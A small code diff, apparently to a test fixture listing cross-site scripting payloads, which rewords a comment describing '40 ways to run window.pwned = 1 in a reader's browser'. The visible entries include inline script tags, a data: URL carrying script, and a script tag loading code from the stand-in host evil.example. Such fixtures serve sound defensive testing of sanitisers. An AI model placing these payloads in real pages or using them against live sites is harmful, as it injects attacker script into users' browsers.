@@ -1,7 +1,7 @@
 const RUN = "window.pwned=1;alert(1)";
 const DATA = `data:text/html,<script>${RUN}</script>`;
 
-/** Markup of an attacker: 40 ways to run `window.pwned = 1` in a reader's browser. */
+/** Markup that an attacker could send: 40 ways to run `window.pwned = 1` in a reader's browser. */
 export const HOSTILE_BODIES = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
